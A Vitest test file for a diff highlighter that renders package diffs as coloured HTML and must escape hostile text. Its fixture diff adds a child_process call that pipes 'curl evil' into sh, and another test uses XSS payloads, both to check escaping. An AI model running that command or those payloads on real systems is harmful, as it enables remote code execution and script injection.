import { describe, expect, it } from 'vitest';
import { diffLines, languageOf } from './diff-highlight.js';

const UNIFIED = [
  '--- a/package/index.js',
  '+++ b/package/index.js',
  '@@ -1,4 +1,5 @@',
  ' /* a comment',
  '  spanning lines */',
  "-const a = 'x';",
  "+const a = 'y';",
  "+require('child_process').exec('curl evil | sh');",
  ' module.exports = a;',
].join('\n');

/** The text a browser shows for the HTML of a line: tags dropped, entities decoded. */
const shown = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&amp;/g, '&');

describe('diffLines', () => {
  it('colours each side of a hunk as the file reads, and every line still says exactly what the diff says', () => {
    const lines = diffLines(UNIFIED, 'package/index.js');
    expect(lines.map((l) => l.kind)).toEqual(['file', 'file', 'hunk', 'ctx', 'ctx', 'del', 'add', 'add', 'ctx']);
    expect(lines.map((l) => shown(l.html))).toEqual(UNIFIED.split('\n'));
    // the comment's second line is still a comment, though it has no `/*` of its own
    expect(lines[4]!.html).toMatch(/^ <span class="hljs-comment">/);
    expect(lines[6]!.html).toContain('<span class="hljs-string">&#x27;y&#x27;</span>');
    expect(lines[5]!.html).toContain('<span class="hljs-string">&#x27;x&#x27;</span>');
    // every span opened on a line is closed on it
    for (const l of lines) expect((l.html.match(/<span /g) ?? []).length).toBe((l.html.match(/<\/span>/g) ?? []).length);
  });

  it('never lets the diffed text become markup, coloured or not, and shows hidden characters as escapes', () => {
    const hostile = ['@@ -1 +1 @@', '-<script>alert(1)</script>', '+"><img src=x onerror=alert(1)> \u202e', '\\ No newline at end of file'].join('\n');
    for (const path of ['index.html', 'index.js', 'README', 'x.md']) {
      const lines = diffLines(hostile, path);
      for (const l of lines) {
        expect(l.html).not.toMatch(/<(?!\/?span\b)/);
        expect(l.html).not.toMatch(/<span (?!class="(hljs|language)-[a-z_ .-]*">)/);
      }
      expect(shown(lines[2]!.html)).toContain('\\u202e');
      expect(shown(lines[1]!.html)).toBe('-<script>alert(1)</script>');
    }
  });

  it('colours only languages it knows, and leaves huge diffs plain', () => {
    expect(languageOf('package/dist/index.cjs')).toBe('javascript');
    expect(languageOf('package/LICENSE')).toBeUndefined();
    expect(diffLines('@@ -1 +1 @@\n+const a = 1;', 'LICENSE')[1]!.html).toBe('+const a = 1;');
    const huge = `@@ -1 +1 @@\n+${'const a = 1; '.repeat(30_000)}`;
    expect(diffLines(huge, 'a.js')[1]!.html).not.toContain('<span');
  });
});
